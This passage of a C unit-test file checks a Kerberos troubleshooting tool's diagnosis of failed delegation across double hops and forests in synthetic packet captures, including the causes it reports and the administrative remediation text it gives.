	t->tree = "\\\\files.lab.test\\share";
	t->session_id = 7;
	fx_link(r, 17, KF_MSG_SMB_REQUEST, 18, KF_MSG_SMB_RESPONSE);
	fx_finish(r);
	fx_run(r, "smb-tree-connect-failed"); /* alone, it fires */
	ck_assert_uint_eq(fx_count(r, "smb-tree-connect-failed", 0), 1);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "smb-tree-connect-failed", 0), 0);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 1);
	const struct kf_finding *f = fx_find(r, "missing-forwarded-tgt");
	ck_assert(contains(f->summary, "anonymously"));
	ck_assert(contains(f->explanation,
			   "The back end accepted the anonymous logon. It then refused the share "
			   "\\\\files.lab.test\\share (frame 18): STATUS_ACCESS_DENIED"));
	ck_assert(fx_has_frame(f, 17) && fx_has_frame(f, 18));
	fx_free(r);
}
END_TEST

/* An LDAP simple bind without a password (anonymous) from the front end:
 * the anonymous shape, its bind and answer as evidence. */
START_TEST(t_fwd_hop_ldap_anonymous)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	struct kf_message *q = fx_msg(r, 15, KF_CARRIER_LDAP, KF_MSG_LDAP_REQUEST, FE_OUT, "10.0.0.70:389");
	q->transport = KF_TRANSPORT_TCP;
	q->connection = 4;
	q->ldap = kf_arena_zalloc(&r->arena, sizeof *q->ldap);
	q->ldap->mechanism = "simple";
	q->ldap->bind_dn = "cn=app,dc=lab,dc=test";
	struct kf_message *p = fx_msg(r, 16, KF_CARRIER_LDAP, KF_MSG_LDAP_RESPONSE, "10.0.0.70:389", FE_OUT);
	p->transport = KF_TRANSPORT_TCP;
	p->connection = 4;
	p->ldap = kf_arena_zalloc(&r->arena, sizeof *p->ldap);
	p->ldap->operation = 1;
	p->ldap->has_result = true;
	fx_link(r, 15, KF_MSG_LDAP_REQUEST, 16, KF_MSG_LDAP_RESPONSE);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert(contains(f->summary,
			   "logged on to the back end LDAP cn=app,dc=lab,dc=test (10.0.0.70) anonymously"));
	ck_assert(contains(f->remediation, "ldap/<directory server's host>"));
	ck_assert(fx_has_frame(f, 15) && fx_has_frame(f, 16));
	fx_free(r);
}
END_TEST

/* The front end went to the back end with Kerberos (a ticket it held
 * already): not this shape, no finding. */
START_TEST(t_fwd_hop_front_uses_kerberos)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_smb(r, 15, KF_KRB_AP_REQ, NULL, NULL, 0);
	onward_http(r, 20, NULL, 401);
	fx_finish(r);
	fx_run(r, "missing-forwarded-tgt");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ntlm-fallback about the front end's NTLM logon to a file server offering
 * Kerberos is taken in (rules.c TAKES): one finding, its frames joined. */
START_TEST(t_fwd_hop_takes_ntlm_fallback)
{
	static const char *krb[] = { "ms-kerberos", "kerberos", "ntlmssp" };
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	struct kf_message *q = fx_smb(r, 13, KF_MSG_SMB_REQUEST, 3, FE_OUT, BACK_SMB);
	fx_smb_rec(r, q, KF_SMB2_NEGOTIATE, 0);
	struct kf_message *p = fx_smb(r, 14, KF_MSG_SMB_RESPONSE, 3, BACK_SMB, FE_OUT);
	fx_smb_rec(r, p, KF_SMB2_NEGOTIATE, 0);
	fx_link(r, 13, KF_MSG_SMB_REQUEST, 14, KF_MSG_SMB_RESPONSE);
	p->spnego = kf_arena_zalloc(&r->arena, sizeof *p->spnego);
	p->spnego->mech_types = krb;
	p->spnego->n_mech_types = 3;
	onward_smb(r, 15, KF_MSG_NTLM_AUTHENTICATE, "LAB", "websvc", 0);
	fx_finish(r);
	fx_run(r, "ntlm-fallback"); /* alone, it fires */
	ck_assert_uint_eq(fx_count(r, "ntlm-fallback", 0), 1);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "ntlm-fallback", 0), 0);
	ck_assert_uint_eq(fx_count(r, "missing-forwarded-tgt", KF_SEV_ERROR), 1);
	ck_assert(fx_has_frame(fx_find(r, "missing-forwarded-tgt"), 14));
	fx_free(r);
}
END_TEST

/* ---- missing-forwarded-tgt with --keytab: the decrypted AP-REQ decides ---------- */

/* The front end's AP-REQ (frame 10) as the front end's keytab opens it: its
 * ticket with ticket_flags, a GSS authenticator with gss_flags and, when
 * cred, the forwarded TGT it carries. */
struct dec_ap {
	struct kf_decrypted d;
	struct kf_dec_ticket t;
	struct kf_dec_auth a;
	struct kf_dec_cred c;
	struct kf_dec_cred_info ci;
};

static void open_ap(struct kf_result *r, struct dec_ap *x, uint32_t ticket_flags, uint32_t gss_flags,
		    int cred)
{
	memset(x, 0, sizeof *x);
	x->t = (struct kf_dec_ticket){ .status = KF_OPEN_OK,
				       .server = "HTTP/front.lab.test@LAB.TEST",
				       .flags = ticket_flags,
				       .cname = "alice",
				       .crealm = "LAB.TEST" };
	x->a = (struct kf_dec_auth){ .status = KF_OPEN_OK,
				     .cname = "alice",
				     .crealm = "LAB.TEST",
				     .gss = true,
				     .gss_flags = gss_flags };
	if (cred) {
		x->ci = (struct kf_dec_cred_info){ .sname = "krbtgt/LAB.TEST",
						   .srealm = "LAB.TEST",
						   .pname = "alice",
						   .prealm = "LAB.TEST" };
		x->c = (struct kf_dec_cred){ .status = cred > 0 ? KF_OPEN_OK : KF_OPEN_NO_KEY,
					     .n_info = cred > 0,
					     .info = &x->ci };
		x->a.has_deleg = true;
		x->a.cred = &x->c;
	}
	x->d.ticket = &x->t;
	x->d.auth = &x->a;
	msg_at(r, 10, KF_KRB_AP_REQ)->dec = &x->d;
}

#define TKT_FWDABLE KF_TKT_FLAG(KF_TKT_FORWARDABLE)
#define TKT_OK_AS_DELEGATE KF_TKT_FLAG(KF_TKT_OK_AS_DELEGATE)

/* No delegation flag, no KRB-CRED: certain even without the client's logon. */
START_TEST(t_fwd_keytab_no_deleg)
{
	struct kf_result *r = fx_new();
	struct dec_ap x;
	double_hop(r, false, FWD_NONE, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	open_ap(r, &x, TKT_FWDABLE | TKT_OK_AS_DELEGATE, KF_GSS_MUTUAL, 0);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	/* certain without the client's logon: only the decrypted AP-REQ makes it so */
	ck_assert_str_eq(f->cause, "client-did-not-delegate");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 10) && fx_has_frame(f, 12) && fx_has_frame(f, 23) && fx_has_frame(f, 24));
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	fx_free(r);
}
END_TEST

/* The front end's ticket is not ok-as-delegate: the client did not delegate because of it. */
/* A front end without Kerberos: the decrypted authenticator without
 * delegation makes it certain (timing alone: likely, t_fwd_hop_unanswered). */
START_TEST(t_fwd_keytab_hop)
{
	struct kf_result *r = fx_new();
	struct dec_ap x;
	double_hop(r, false, FWD_NONE, 200, 0, NULL, NULL);
	onward_http(r, 15, NULL, 401);
	open_ap(r, &x, TKT_FWDABLE | TKT_OK_AS_DELEGATE, KF_GSS_MUTUAL, 0);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "client-did-not-delegate");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(contains(f->summary, "no delegation flag in the decrypted AP-REQ"));
	ck_assert(!contains(f->explanation, "(Likely:"));
	fx_free(r);
}
END_TEST

START_TEST(t_fwd_keytab_not_ok_as_delegate)
{
	struct kf_result *r = fx_new();
	struct dec_ap x;
	double_hop(r, false, FWD_NONE, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	open_ap(r, &x, TKT_FWDABLE, KF_GSS_MUTUAL, 0);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "frontend-not-trusted-for-delegation");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/back.lab.test@LAB.TEST", "HTTP/front.lab.test@LAB.TEST",
		   NULL);
	subject_is(f, KF_SUBJECT_SERVER, "10.0.0.30:80", NULL);
	fx_free(r);
}
END_TEST

/* ---- cross-forest-delegation-blocked --------------------------------------------- */

/* The client's forwarded-TGT request for the cross-realm TGT to the front
 * end's realm refused (a bare BADOPTION): the trust; the same refusal of a
 * TGT of its own realm stays forwarding-refused (t_fwd_refused_bare), and a
 * cross-realm one the KDC says is not forwardable stays tgt-not-forwardable. */
START_TEST(t_fwd_xforest_refused)
{
	for (int not_fwdable = 0; not_fwdable <= 1; not_fwdable++) {
		struct kf_result *r = fx_new();
		xrealm_front = "HTTP/front.other.test";
		double_hop(r, true, not_fwdable ? FWD_REFUSED : FWD_REFUSED_BARE, 200, 23,
			   "HTTP/front.other.test", "HTTP/back.lab.test");
		xrealm_front = NULL;
		const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
		if (not_fwdable) {
			ck_assert_str_eq(f->cause, "tgt-not-forwardable");
			fx_free(r);
			continue;
		}
		ck_assert_str_eq(f->cause, "cross-forest-delegation-blocked");
		ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
		ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 10));
		ck_assert_msg(
			contains(f->explanation, "cross-realm TGT (krbtgt/OTHER.TEST issued in LAB.TEST)"),
			"%s", f->explanation);
		ck_assert_msg(
			!strncmp(f->remediation, "First: the trust", 16) &&
				contains(
					f->remediation,
					"netdom trust OTHER.TEST /domain:LAB.TEST /EnableTGTDelegation:Yes") &&
				contains(f->remediation,
					 "modprinc +ok_as_delegate krbtgt/OTHER.TEST@LAB.TEST") &&
				contains(f->remediation, "PrincipalsAllowedToDelegateToAccount"),
			"%s", f->remediation);
		subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
		fx_free(r);
	}
}
END_TEST

/* Only the client side: its refused request for a cross-realm TGT alone. */
START_TEST(t_fwd_xforest_refused_client_only)
{
	for (int xrealm = 0; xrealm <= 1; xrealm++) {
		struct kf_result *r = fx_new();
		struct kf_message *m = fx_krb(r, 5, KF_KRB_TGS_REQ, CL, KDC);
		m->krb.sname = xrealm ? "krbtgt/OTHER.TEST" : "krbtgt/LAB.TEST";
		m->krb.realm = "LAB.TEST";
		m->krb.has_kdc_options = true;
		m->krb.kdc_options = OPT_FORWARDED;
		krb_err(r, 6, 5, KDC, CL, 12, NULL);
		const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
		ck_assert_str_eq(f->cause, xrealm ? "cross-forest-delegation-blocked" : "forwarding-refused");
		ck_assert(xrealm == !!contains(f->remediation, "EnableTGTDelegation"));
		fx_free(r);
	}
}
END_TEST

/* With --keytab: the client did not delegate to a front end in OTHER.TEST,
 * and its cross-realm TGT, opened where the KDC issued it (frame 4) or where
 * the client presented it (frame 7), is not ok-as-delegate.  Near-miss: the
 * same TGT with ok-as-delegate leaves the front end's own flag to decide. */
START_TEST(t_fwd_xforest_keytab)
{
	for (int c = 0; c < 3; c++) {
		struct kf_result *r = fx_new();
		struct dec_ap x;
		xrealm_front = "HTTP/front.other.test";
		double_hop(r, false, FWD_NONE, 200, 23, "HTTP/front.other.test", "HTTP/back.lab.test");
		xrealm_front = NULL;
		open_ap(r, &x, TKT_FWDABLE, KF_GSS_MUTUAL, 0);
		struct kf_dec_rep rep = { .status = KF_OPEN_OK, .flags = TKT_FWDABLE };
		struct kf_dec_ticket tgt = { .status = KF_OPEN_OK,
					     .server = "krbtgt/OTHER.TEST@LAB.TEST",
					     .flags = TKT_FWDABLE | (c == 2 ? TKT_OK_AS_DELEGATE : 0) };
		struct kf_decrypted d4 = { .rep = &rep }, d7 = { .ticket = &tgt };
		if (c == 0)
			msg_at(r, 4, KF_KRB_TGS_REP)->dec = &d4;
		else
			msg_at(r, 7, KF_KRB_TGS_REQ)->dec = &d7;
		const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
		if (c == 2) {
			ck_assert_str_eq(f->cause, "frontend-not-trusted-for-delegation");
			fx_free(r);
			continue;
		}
		ck_assert_str_eq(f->cause, "cross-forest-delegation-blocked");
		ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
		ck_assert(fx_has_frame(f, c == 0 ? 4 : 7));
		ck_assert_msg(contains(f->explanation, "cross-realm TGT to OTHER.TEST"), "%s",
			      f->explanation);
		ck_assert(contains(f->summary, "cross-realm TGT"));
		ck_assert(contains(f->remediation, "netdom trust OTHER.TEST /domain:LAB.TEST"));
		/* the front end's own ticket is not ok-as-delegate here: no "although" */
		ck_assert(!contains(f->explanation, "although"));
		fx_free(r);
	}
}
END_TEST

/* The client's TGT, opened in its AS-REP, is not forwardable: that decides
 * (before the ticket's missing ok-as-delegate). */
START_TEST(t_fwd_keytab_tgt_not_forwardable)
{
	struct kf_result *r = fx_new();
	struct dec_ap x;
	double_hop(r, true, FWD_NONE, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	open_ap(r, &x, 0, KF_GSS_MUTUAL, 0);
	struct kf_dec_rep as = {
		.status = KF_OPEN_OK, .flags = 0, .sname = "krbtgt/LAB.TEST", .srealm = "LAB.TEST"
	};
	struct kf_decrypted as_dec = { .rep = &as };
	msg_at(r, 2, KF_KRB_AS_REP)->dec = &as_dec;
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "tgt-not-forwardable");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	fx_free(r);
}
END_TEST

/* The authenticator carries the forwarded TGT: the front end did not use it (certain). */
START_TEST(t_fwd_keytab_deleg_unused)
{
	struct kf_result *r = fx_new();
	struct dec_ap x;
	double_hop(r, true, FWD_OK, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	open_ap(r, &x, TKT_FWDABLE | TKT_OK_AS_DELEGATE, KF_GSS_DELEG | KF_GSS_MUTUAL, 1);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "frontend-did-not-use-delegation");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 10) && fx_has_frame(f, 23) && fx_has_frame(f, 24));
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	/* wording: the decrypted KRB-CRED's principals appear nowhere else in the finding */
	ck_assert(contains(f->explanation, "krbtgt/LAB.TEST@LAB.TEST for alice@LAB.TEST"));
	fx_free(r);
}
END_TEST

/* A delegation the keytab could not open changes nothing: the messages decide. */
START_TEST(t_fwd_keytab_deleg_unopened)
{
	struct kf_result *r = fx_new();
	struct dec_ap x;
	double_hop(r, false, FWD_NONE, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	open_ap(r, &x, TKT_FWDABLE | TKT_OK_AS_DELEGATE, KF_GSS_DELEG | KF_GSS_MUTUAL, -1);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "undetermined");
	ck_assert_int_eq(f->confidence, KF_CONF_LIKELY);
	fx_free(r);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("rules_deleg");
	TCase *a = tcase_create("s4u-denied");
	tcase_add_test(a, t_s4u_proxy_denied);
	tcase_add_test(a, t_s4u_unsupported_after_grant);
	tcase_add_test(a, t_s4u_unsupported_grant_elsewhere);
	tcase_add_test(a, t_s4u_not_allowed_to_delegate);
	tcase_add_test(a, t_s4u_target_requires_preauth);
	tcase_add_test(a, t_s4u_two_accounts_one_host);
	tcase_add_test(a, t_s4u_fix_hostile_name);
	tcase_add_test(a, t_s4u_self_no_preauth);
	tcase_add_test(a, t_s4u_one_account_two_hosts);
	tcase_add_test(a, t_s4u_evidence_not_forwardable);
	tcase_add_test(a, t_s4u_bare_badoption);
	tcase_add_test(a, t_s4u_allowed);
	tcase_add_test(a, t_s4u_self_denied);
	tcase_add_test(a, t_s4u_recovered);
	tcase_add_test(a, t_s4u_repeated);
	tcase_add_test(a, t_s4u_proxy_other_error);
	tcase_add_test(a, t_s4u_self_probe_is_info);
	suite_add_tcase(s, a);
	TCase *b = tcase_create("cross-realm-s4u");
	tcase_add_test(b, t_xr_ntstatus);
	tcase_add_test(b, t_xr_ntstatus_only);
	tcase_add_test(b, t_xr_referral_then_refused);
	tcase_add_test(b, t_xr_referral_only_is_likely);
	tcase_add_test(b, t_xr_success);
	tcase_add_test(b, t_xr_plain_referral);
	tcase_add_test(b, t_xr_tgt_wrong_realm);
	tcase_add_test(b, t_xr_tgt_wrong_realm_by_issuer);
	tcase_add_test(b, t_xr_tgt_wrong_realm_not_us);
	tcase_add_loop_test(b, t_refusal_near_misses, 0, (int)(sizeof REFUSALS / sizeof REFUSALS[0]));
	suite_add_tcase(s, b);
	TCase *c = tcase_create("missing-forwarded-tgt");
	tcase_add_test(c, t_fwd_works);
	tcase_add_test(c, t_fwd_works_no_fwd_request_seen);
	tcase_add_test(c, t_fwd_not_forwarded_certain);
	tcase_add_test(c, t_fwd_not_forwarded_likely);
	tcase_add_test(c, t_fwd_refused);
	tcase_add_test(c, t_deleg_enterprise_name_once);
	tcase_add_test(c, t_fwd_refused_bare);
	tcase_add_test(c, t_fwd_refused_client_only);
	tcase_add_test(c, t_fwd_refused_recovered);
	tcase_add_test(c, t_fwd_http_rejected);
	tcase_add_test(c, t_fwd_ticket_to_itself);
	tcase_add_test(c, t_fwd_outside_window);
	tcase_add_test(c, t_fwd_obtained_but_unused);
	tcase_add_test(c, t_fwd_no_backend);
	tcase_add_test(c, t_fwd_keytab_no_deleg);
	tcase_add_test(c, t_fwd_keytab_not_ok_as_delegate);
	tcase_add_test(c, t_fwd_xforest_refused);
	tcase_add_test(c, t_fwd_xforest_refused_client_only);
	tcase_add_test(c, t_fwd_xforest_keytab);
	tcase_add_test(c, t_fwd_keytab_tgt_not_forwardable);
	tcase_add_test(c, t_fwd_keytab_deleg_unused);
	tcase_add_test(c, t_fwd_keytab_deleg_unopened);
	tcase_add_test(c, t_fwd_keytab_hop);
	tcase_add_test(c, t_fwd_hop_unanswered);
	tcase_add_test(c, t_fwd_hop_open_backend);
	tcase_add_test(c, t_fwd_hop_answered_later);
	tcase_add_test(c, t_fwd_hop_logon_outside_capture);
	tcase_add_test(c, t_fwd_hop_outside_window);
	tcase_add_test(c, t_fwd_hop_http_ntlm);
	tcase_add_test(c, t_fwd_hop_smb_ntlm);
	tcase_add_test(c, t_fwd_hop_smb_anonymous_refused);
	tcase_add_test(c, t_fwd_hop_smb_anonymous_share_refused);
	tcase_add_test(c, t_fwd_hop_ldap_anonymous);
	tcase_add_test(c, t_fwd_hop_front_uses_kerberos);
	tcase_add_test(c, t_fwd_hop_takes_ntlm_fallback);
	suite_add_tcase(s, c);
	return kf_test_run(s);
}
